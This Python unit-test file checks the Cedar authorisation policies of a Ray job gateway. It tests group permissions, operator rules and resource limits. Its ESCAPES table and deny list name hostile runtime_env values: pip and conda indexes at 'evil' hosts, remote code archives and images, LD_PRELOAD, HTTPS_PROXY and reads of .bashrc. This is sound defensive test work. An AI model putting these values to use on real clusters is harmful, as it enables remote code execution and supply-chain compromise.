"""The default pack, table-driven: each group against each action, on its own jobs and on others'."""

from __future__ import annotations

import pytest

from raywarden.config import ClusterConfig
from raywarden.gateway.routes import RAY_ROUTES
from raywarden.policy.entities import request_context
from tests.unit.policy.policy_support import CONTEXT, decide, engine, job, principal, resource_for, submission

pytestmark = pytest.mark.unit
ACTIONS = sorted({r.action for r in RAY_ROUTES} | {"jobs.read_env"})
OWN_JOB_ACTIONS = {"jobs.read", "jobs.read_env", "jobs.logs", "jobs.logs_tail", "jobs.stop", "jobs.delete"}
ALLOWED = {
    "admins": set(ACTIONS),
    "developers": {"cluster.version", "jobs.list", "jobs.submit", "packages.read", "packages.upload"} | OWN_JOB_ACTIONS,
    "viewers": {"cluster.version", "jobs.list", "jobs.read", "jobs.logs", "jobs.logs_tail"},
    "nobody": set(),
}
DECIDED_BY = {"admins": "admins-all", "viewers": "viewers-read"}
ENGINE = engine()


@pytest.mark.parametrize("group", sorted(ALLOWED))
@pytest.mark.parametrize("action", ACTIONS)
def test_group_on_own_resources(group: str, action: str) -> None:
    who = principal("alice", *(() if group == "nobody" else (group,)))
    decision = decide(ENGINE, who, action, resource_for(action, owner="alice"))
    expected = action in ALLOWED[group]
    assert decision.allowed is expected, decision
    if expected:
        assert len(decision.policy_ids) == 1
        if group in DECIDED_BY:
            assert decision.policy_ids == (DECIDED_BY[group],)
    else:
        assert decision.policy_ids == ()  # refused because nothing permits it: no forbid in the pack


@pytest.mark.parametrize("action", sorted(OWN_JOB_ACTIONS))
def test_developers_never_touch_other_peoples_jobs(action: str) -> None:
    alice = principal("alice", "developers")
    assert decide(ENGINE, alice, action, job("alice")).allowed
    assert not decide(ENGINE, alice, action, job("bob")).allowed
    # A job without an owner (a driver job, or one submitted to Ray directly) belongs to nobody.
    assert not decide(ENGINE, alice, action, job(None)).allowed
    # Viewers see everyone's jobs but never their env values; admins everything.
    assert decide(ENGINE, principal("vera", "viewers"), action, job("bob")).allowed is (action in ALLOWED["viewers"])
    assert decide(ENGINE, principal("root", "admins"), action, job("bob")).allowed


def test_service_accounts_follow_their_groups() -> None:
    bot = principal("ci", "developers", kind="sa")
    assert decide(ENGINE, bot, "jobs.submit", submission("ci")).allowed
    assert not decide(ENGINE, principal("ci", kind="sa"), "jobs.submit", submission("ci")).allowed


def test_decisions_do_not_depend_on_context_unless_a_policy_says_so() -> None:
    ctx = request_context("oidc", "203.0.113.9", 10**6)
    assert decide(ENGINE, principal("alice", "developers"), "jobs.read", job("alice"), ctx).allowed


def test_operator_forbid_wins_over_the_default_permit() -> None:
    extra = [
        (
            "ops/no-tokens.cedar",
            '@id("no-stop-by-token")\nforbid (principal, action == Raywarden::Action::"jobs.stop", resource)\n'
            'when { context.auth_method != "certificate" };\n'
            '@id("office-only")\nforbid (principal in Raywarden::Group::"developers", action, resource)\n'
            'unless { context.source.isInRange(ip("10.0.0.0/8")) || context.source.isLoopback() };',
        )
    ]
    eng = engine(extra=extra)
    admin = principal("root", "admins")
    assert decide(eng, admin, "jobs.stop", job("bob")).allowed
    by_token = decide(eng, admin, "jobs.stop", job("bob"), request_context("token", "127.0.0.1", 5))
    assert not by_token.allowed and by_token.policy_ids == ("no-stop-by-token",)
    outside = decide(
        eng,
        principal("alice", "developers"),
        "jobs.read",
        job("alice"),
        request_context("certificate", "198.51.100.7", 5),
    )
    assert not outside.allowed and outside.policy_ids == ("office-only",)


def test_operator_permit_widens_the_pack() -> None:
    extra = [
        (
            "ops/mirror.cedar",
            '@id("developers-mirror")\npermit (principal in Raywarden::Group::"developers",\n'
            '  action == Raywarden::Action::"jobs.submit", resource is Raywarden::NewJob)\n'
            'when { resource.runtime_env.keys == ["pip"] &&\n'
            '  resource.runtime_env.pip_options == ["--index-url"] &&\n'
            '  resource.runtime_env.pip_direct_refs == ["https://pypi.internal/simple"] };',
        )
    ]
    eng = engine(extra=extra)
    body = {"runtime_env": {"pip": ["torch", "--index-url https://pypi.internal/simple"]}}
    decision = decide(eng, principal("alice", "developers"), "jobs.submit", submission("alice", **body))
    assert decision.allowed and decision.policy_ids == ("developers-mirror",)
    evil = {"runtime_env": {"pip": ["torch", "--index-url https://evil.example/simple"]}}
    assert not decide(eng, principal("alice", "developers"), "jobs.submit", submission("alice", **evil)).allowed


# -- job submission: every runtime_env escape, refused for developers, allowed for admins ----------------

PLAIN = {
    "no runtime_env": {},
    "pip list": {"runtime_env": {"pip": ["requests==2.32.3", "numpy>=1.26; python_version >= '3.9'"]}},
    "pip dict from Ray's SDK": {
        "runtime_env": {"pip": {"packages": ["requests"], "pip_check": False}, "_ray_commit": "b7f4259e"}
    },
    "uv with the SDK's default option": {
        "runtime_env": {"uv": {"packages": ["requests"], "uv_check": False, "uv_pip_install_options": ["--no-cache"]}}
    },
    "conda default channels": {
        "runtime_env": {"conda": {"dependencies": ["python=3.11", "numpy", {"pip": ["requests"]}]}}
    },
    "uploaded working_dir and py_modules": {
        "runtime_env": {"working_dir": "gcs://_ray_pkg_a.zip", "py_modules": ["gcs://_ray_pkg_b.zip"]}
    },
    "harmless env vars": {"runtime_env": {"env_vars": {"OMP_NUM_THREADS": "4", "WANDB_MODE": "offline"}}},
    "hashed requirements": {"runtime_env": {"pip": ["requests==2.32.3 \\", "    --hash=sha256:" + "0" * 64]}},
    "conda defaults channel": {
        "runtime_env": {"conda": {"channels": ["defaults"], "dependencies": ["defaults::numpy", "scipy=1.11"]}}
    },
    "pip_version pin": {"runtime_env": {"pip": {"packages": ["x"], "pip_version": "==23.0"}}},
    "config from Ray's SDK": {
        "runtime_env": {"config": {"setup_timeout_seconds": 600, "eager_install": True, "log_files": []}}
    },
    "within limits": {"entrypoint_num_cpus": 4, "entrypoint_num_gpus": 0, "entrypoint_memory": 8 * 1024**3},
    "fractional cpus": {"entrypoint_num_cpus": 0.5},
}
ESCAPES = {
    "pip --index-url in the list": {"runtime_env": {"pip": ["requests", "--index-url https://evil/simple"]}},
    "pip --index-url=URL": {"runtime_env": {"pip": ["--index-url=https://evil/simple", "requests"]}},
    "pip --extra-index-url": {"runtime_env": {"pip": ["--extra-index-url https://evil/simple requests"]}},
    "pip -i short option": {"runtime_env": {"pip": ["-ihttps://evil/simple", "requests"]}},
    "pip -f find-links": {"runtime_env": {"pip": ["-f https://evil/links", "requests"]}},
    "pip option smuggled after a newline": {"runtime_env": {"pip": ["requests\n--index-url https://evil"]}},
    "pip option after a line continuation": {"runtime_env": {"pip": ["requests \\\n--index-url https://e"]}},
    "pip -r another requirements file": {"runtime_env": {"pip": ["-r /etc/reqs.txt"]}},
    "pip -e editable VCS checkout": {"runtime_env": {"pip": ["-e git+https://evil/x.git#egg=x"]}},
    "pip git+ URL": {"runtime_env": {"pip": ["git+https://github.com/evil/pkg.git"]}},
    "pip PEP 508 direct URL": {"runtime_env": {"pip": ["pkg @ https://evil/pkg-1.0-py3-none-any.whl"]}},
    "pip local wheel path": {"runtime_env": {"pip": ["/tmp/pkg-1.0-py3-none-any.whl"]}},
    "pip env var expansion": {"runtime_env": {"pip": ["${EVIL}"]}},
    "pip_install_options": {
        "runtime_env": {"pip": {"packages": ["requests"], "pip_install_options": ["--index-url", "https://e"]}}
    },
    "pip_version direct URL": {"runtime_env": {"pip": {"packages": ["x"], "pip_version": " @ https://e/pip.whl"}}},
    "pip requirements file on the node": {"runtime_env": {"pip": "/etc/requirements.txt"}},
    "review: pip packages as a file on the node": {"runtime_env": {"pip": {"packages": "ray_current_cluster"}}},
    "pip archive name": {"runtime_env": {"pip": ["./evil.whl"]}},
    "pip bare archive name": {"runtime_env": {"pip": ["evil.whl"]}},
    "pip abbreviated option": {"runtime_env": {"pip": {"packages": ["x"], "pip_install_options": ["--ind=https://e"]}}},
    "review: conda bracket channel": {"runtime_env": {"conda": {"dependencies": ["numpy[channel=evilchan]"]}}},
    "conda bracket url": {"runtime_env": {"conda": {"dependencies": ["numpy[url=https://evil/numpy-1-0.conda]"]}}},
    "conda YAML file on the node": {"runtime_env": {"conda": "/tmp/ray/env.yaml"}},
    "log_files absolute": {"runtime_env": {"config": {"log_files": ["/home/ray/.bashrc"]}}},
    "log_files dot-dot": {"runtime_env": {"config": {"log_files": ["../../session_latest/logs/raylet.out"]}}},
    "env var with a leading underscore": {"runtime_env": {"env_vars": {"_PIP_STANDALONE_CERT": "/tmp/ca.pem"}}},
    "unsupported form": {"runtime_env": {"working_dir": ["gcs://_ray_pkg_a.zip"]}},
    "uv --index-url option": {
        "runtime_env": {"uv": {"packages": ["x"], "uv_pip_install_options": ["--index-url", "https://e"]}}
    },
    "uv git+ URL": {"runtime_env": {"uv": ["git+https://github.com/evil/pkg.git"]}},
    "conda with channels": {"runtime_env": {"conda": {"channels": ["evil-channel"], "dependencies": ["numpy"]}}},
    "conda channel-qualified package": {"runtime_env": {"conda": {"dependencies": ["evil::numpy"]}}},
    "conda package URL": {"runtime_env": {"conda": {"dependencies": ["https://evil/numpy.tar.bz2"]}}},
    "conda pip list with index": {
        "runtime_env": {"conda": {"dependencies": [{"pip": ["--index-url https://evil/simple", "x"]}]}}
    },
    "conda variables": {
        "runtime_env": {"conda": {"dependencies": ["numpy"], "variables": {"PIP_INDEX_URL": "https://evil"}}}
    },
    "conda named env on the node": {"runtime_env": {"conda": "base"}},
    "container": {"runtime_env": {"container": {"image": "docker.io/evil/img"}}},
    "image_uri": {"runtime_env": {"image_uri": "docker.io/evil/img"}},
    "env var PIP_INDEX_URL": {"runtime_env": {"env_vars": {"PIP_INDEX_URL": "https://evil/simple"}}},
    "env var PIP_EXTRA_INDEX_URL": {"runtime_env": {"env_vars": {"PIP_EXTRA_INDEX_URL": "https://evil"}}},
    "env var UV_INDEX_URL": {"runtime_env": {"env_vars": {"UV_INDEX_URL": "https://evil"}}},
    "env var lower-case pip_index_url": {"runtime_env": {"env_vars": {"pip_index_url": "https://evil"}}},
    "env var LD_PRELOAD": {"runtime_env": {"env_vars": {"LD_PRELOAD": "/tmp/evil.so"}}},
    "env var HTTPS_PROXY": {"runtime_env": {"env_vars": {"HTTPS_PROXY": "http://evil:3128"}}},
    "env var PYTHONPATH": {"runtime_env": {"env_vars": {"PYTHONPATH": "/tmp/evil"}}},
    "working_dir from a remote URL": {"runtime_env": {"working_dir": "https://evil/code.zip"}},
    "working_dir from S3": {"runtime_env": {"working_dir": "s3://bucket/code.zip"}},
    "working_dir from a node path": {"runtime_env": {"working_dir": "/etc"}},
    "py_modules from a remote URL": {"runtime_env": {"py_modules": ["https://evil/mod.whl"]}},
    "java_jars": {"runtime_env": {"java_jars": ["https://evil/x.jar"]}},
    "_ray_release wheel URL": {"runtime_env": {"_ray_release": "https://evil/ray.whl"}},
    "py_executable": {"runtime_env": {"py_executable": "/tmp/evil-python"}},
    "plugin": {"runtime_env": {"my_plugin": {"x": 1}}},
    "too many cpus": {"entrypoint_num_cpus": 4.001},
    "any gpu": {"entrypoint_num_gpus": 0.1},
    "too much memory": {"entrypoint_memory": 8 * 1024**3 + 1},
    "custom resource": {"entrypoint_resources": {"TPU": 1}},
    "infinite cpus": {"entrypoint_num_cpus": float("inf")},
}


@pytest.mark.parametrize("name", sorted(PLAIN))
def test_developers_may_submit_plain_jobs(name: str) -> None:
    decision = decide(ENGINE, principal("alice", "developers"), "jobs.submit", submission("alice", **PLAIN[name]))
    assert decision.allowed and decision.policy_ids == ("developers-submit",), decision


@pytest.mark.parametrize("name", sorted(ESCAPES))
def test_every_runtime_env_escape_is_refused_for_developers(name: str) -> None:
    job_request = submission("alice", **ESCAPES[name])
    assert not decide(ENGINE, principal("alice", "developers"), "jobs.submit", job_request).allowed
    assert decide(ENGINE, principal("root", "admins"), "jobs.submit", job_request).allowed


def test_resource_limits_come_from_the_cluster_config() -> None:
    config = ClusterConfig(
        developer_max_cpus=16,
        developer_max_gpus=1,
        developer_max_memory_bytes=64 * 1024**3,
        developer_resources=["TPU"],
        developer_max_resource_amount=2,
    )
    eng = engine(config)
    alice = principal("alice", "developers")
    assert decide(
        eng,
        alice,
        "jobs.submit",
        submission("alice", entrypoint_num_cpus=16, entrypoint_num_gpus=1, entrypoint_memory=64 * 1024**3),
    ).allowed
    assert decide(eng, alice, "jobs.submit", submission("alice", entrypoint_resources={"TPU": 2})).allowed
    assert not decide(eng, alice, "jobs.submit", submission("alice", entrypoint_resources={"TPU": 2.5})).allowed
    assert not decide(eng, alice, "jobs.submit", submission("alice", entrypoint_resources={"FPGA": 1})).allowed
    assert not decide(eng, alice, "jobs.submit", submission("alice", entrypoint_num_gpus=1.5)).allowed
    assert not decide(eng, alice, "jobs.submit", submission("alice", entrypoint_num_cpus=17)).allowed
    # The limits are part of the version: changing them is visible in every decision record.
    assert eng.version != ENGINE.version


# The conditions of developers-submit before the pack read runtime_env_facts (one flat set, cheaper for Cedar),
# kept as the reference the flat form must agree with on every plain job and every escape. (The optional
# amounts are read as the pack reads them; test_absent_amounts_decide_as_explicit_zeros covers that reading.)
NESTED_SUBMIT = """@id("nested-submit")
permit (principal in Raywarden::Group::"nested", action == Raywarden::Action::"jobs.submit",
        resource is Raywarden::NewJob)
when {
  ["working_dir", "py_modules", "pip", "uv", "conda", "env_vars", "excludes", "config",
   "worker_process_setup_hook", "_ray_commit"].containsAll(resource.runtime_env.keys) &&
  resource.runtime_env.plugins.isEmpty() &&
  !resource.runtime_env.container &&
  resource.runtime_env.pip_direct_refs.isEmpty() &&
  ["--no-cache", "--no-cache-dir", "--disable-pip-version-check", "--hash"]
    .containsAll(resource.runtime_env.pip_options) &&
  resource.runtime_env.spec_files.isEmpty() &&
  ["defaults"].containsAll(resource.runtime_env.conda_channels) &&
  resource.runtime_env.conda_options.isEmpty() &&
  ["gcs"].containsAll(resource.runtime_env.uri_schemes) &&
  !(resource.runtime_env has conda_envs) &&
  !(resource.runtime_env has log_files) &&
  !(resource.runtime_env has unsupported) &&
  !resource.runtime_env.env_var_prefixes.containsAny(
    ["PIP", "UV", "CONDA", "CONDARC", "MAMBA", "PYTHON", "PYTHONPATH", "PYTHONHOME", "PYTHONSTARTUP",
     "PYTHONUSERBASE", "PYTHONPLATLIBDIR", "LD", "DYLD", "GIT", "HTTP", "HTTPS", "ALL", "NO", "REQUESTS", "CURL",
     "SSL", "HOME", "XDG", "NETRC", "VIRTUAL", "PATH", "RAY"]
  ) &&
  resource.entrypoint_milli_cpus <= Raywarden::Cluster::"ray".developer_limits.milli_cpus &&
  (if resource has entrypoint_milli_gpus then resource.entrypoint_milli_gpus else 0)
    <= Raywarden::Cluster::"ray".developer_limits.milli_gpus &&
  (if resource has entrypoint_memory then resource.entrypoint_memory else 0)
    <= Raywarden::Cluster::"ray".developer_limits.memory &&
  (if resource has entrypoint_resources
   then Raywarden::Cluster::"ray".developer_limits.resources.containsAll(resource.entrypoint_resources)
   else true) &&
  (if resource has entrypoint_resources_max_milli then resource.entrypoint_resources_max_milli else 0)
    <= Raywarden::Cluster::"ray".developer_limits.milli_resource_amount
};"""
MORE_BODIES = {
    "allowed pip options": {"runtime_env": {"pip": {"packages": ["x"], "pip_install_options": ["--no-cache-dir"]}}},
    "plugin and container": {"runtime_env": {"x_plugin": 1, "container": {"image": "i"}}},
    "excludes and config": {"runtime_env": {"excludes": ["*.pt"], "config": {"setup_timeout_seconds": 60}}},
    "fact lookalike values": {"runtime_env": {"pip": ["key:pip"], "env_vars": {"key:pip": "1"}}},
}


@pytest.mark.parametrize("name", sorted({**PLAIN, **ESCAPES, **MORE_BODIES}))
def test_flat_submit_conditions_decide_as_the_nested_ones(name: str) -> None:
    body = {**PLAIN, **ESCAPES, **MORE_BODIES}[name]
    eng = engine(extra=[("ops/nested.cedar", NESTED_SUBMIT)])
    flat = decide(eng, principal("alice", "developers"), "jobs.submit", submission("alice", **body))
    nested = decide(eng, principal("alice", "nested"), "jobs.submit", submission("alice", **body))
    assert flat.allowed is nested.allowed, (flat, nested)


# Submissions that ask for GPUs, memory or custom resources, at and around the limits of LIMITS below.
AMOUNT_BODIES = {
    "gpus at the limit": {"entrypoint_num_gpus": 1},
    "gpus over": {"entrypoint_num_gpus": 1.001},
    "memory at the limit": {"entrypoint_memory": 2**30},
    "memory over": {"entrypoint_memory": 2**30 + 1},
    "allowed resource": {"entrypoint_resources": {"TPU": 2}},
    "too much of it": {"entrypoint_resources": {"TPU": 3}},
    "zero of a resource": {"entrypoint_resources": {"TPU": 0}},
    "zero of another": {"entrypoint_resources": {"X": 0}},
    "zero everything": {"entrypoint_num_gpus": 0, "entrypoint_memory": 0, "entrypoint_resources": {}},
}
LIMITS = ClusterConfig(
    developer_max_gpus=1, developer_max_memory_bytes=2**30, developer_resources=["TPU"], developer_max_resource_amount=2
)
NEUTRAL = {
    "entrypoint_milli_gpus": 0,
    "entrypoint_memory": 0,
    "entrypoint_resources": [],
    "entrypoint_resources_max_milli": 0,
}


@pytest.mark.parametrize(
    "config",
    [None, LIMITS, ClusterConfig(developer_max_cpus=0, developer_max_memory_bytes=0)],
    ids=["default", "limits", "zero"],
)
@pytest.mark.parametrize("name", sorted({**PLAIN, **ESCAPES, **MORE_BODIES, **AMOUNT_BODIES}))
def test_absent_amounts_decide_as_explicit_zeros(name: str, config: ClusterConfig | None) -> None:
    """A submission leaves out the amounts it does not ask for; the pack reads them as 0 (or none), exactly as it
    read the explicit zeros submissions carried before, on the strict path and the gateway's."""
    from raywarden.policy.engine import Entity, PolicyRequest

    body = {**PLAIN, **ESCAPES, **MORE_BODIES, **AMOUNT_BODIES}[name]
    eng = engine(config)
    built = submission("alice", **body)
    explicit = Entity(built.type, built.id, {**NEUTRAL, **built.attrs}, built.parents)
    for who in (principal("alice", "developers"), principal("root", "admins")):
        request = PolicyRequest(who, "jobs.submit", built, CONTEXT)
        reference = eng.decide(PolicyRequest(who, "jobs.submit", explicit, CONTEXT), strict=True)
        assert eng.decide(request, strict=True) == reference == eng.decide(request), name


def test_amounts_nobody_asks_for_are_left_out() -> None:
    attrs = submission("alice", entrypoint_num_gpus=0, entrypoint_memory=0, entrypoint_resources={}).attrs
    assert not set(NEUTRAL) & set(attrs) and attrs["entrypoint_milli_cpus"] == 0
    attrs = submission("alice", entrypoint_num_gpus=0.5, entrypoint_memory=1, entrypoint_resources={"X": 0}).attrs
    asked = (attrs["entrypoint_milli_gpus"], attrs["entrypoint_memory"], attrs["entrypoint_resources"])
    assert asked == (500, 1, ["X"])
    assert "entrypoint_resources_max_milli" not in attrs


def test_policies_must_read_the_optional_amounts_behind_has() -> None:
    from raywarden.errors import PolicyError

    unguarded = (
        'forbid (principal, action == Raywarden::Action::"jobs.submit", resource is Raywarden::NewJob) '
        "when { resource.entrypoint_milli_gpus > 1000 };"
    )
    with pytest.raises(PolicyError, match="entrypoint_milli_gpus"):
        engine(extra=[("ops/gpus.cedar", unguarded)])
    guarded = unguarded.replace("resource.entrypoint", "resource has entrypoint_milli_gpus && resource.entrypoint")
    eng = engine(extra=[("ops/gpus.cedar", guarded)])
    alice = principal("alice", "admins")
    assert decide(eng, alice, "jobs.submit", submission("alice")).allowed
    assert not decide(eng, alice, "jobs.submit", submission("alice", entrypoint_num_gpus=2)).allowed


def test_the_ml_mirror_example_of_the_docs() -> None:
    """docs/policy.md's allowlist example loads, lets its group use the mirror, and nothing beyond it."""
    from pathlib import Path

    docs = (Path(__file__).resolve().parents[3] / "docs" / "policy.md").read_text()
    [block] = [b for b in docs.split("```cedar")[1:] if '@id("ml-mirror")' in b]
    example = block.split("```")[0]
    eng = engine(extra=[("ops/examples.cedar", example)])
    ml = principal("mia", "ml")
    mirror = {"pip": ["torch", "--index-url https://pypi.internal/simple"], "working_dir": "gcs://_ray_pkg_a.zip"}
    assert decide(eng, ml, "jobs.submit", submission("mia", runtime_env=mirror)).policy_ids == ("ml-mirror",)
    for beyond in (
        {"pip": ["torch", "--index-url https://evil.example/simple"]},
        {**mirror, "config": {"log_files": ["/etc/x"]}},
        {**mirror, "env_vars": {"PIP_EXTRA_INDEX_URL": "https://evil.example/simple"}},
        {**mirror, "image_uri": "docker.io/evil/img"},
    ):
        assert not decide(eng, ml, "jobs.submit", submission("mia", runtime_env=beyond)).allowed, beyond
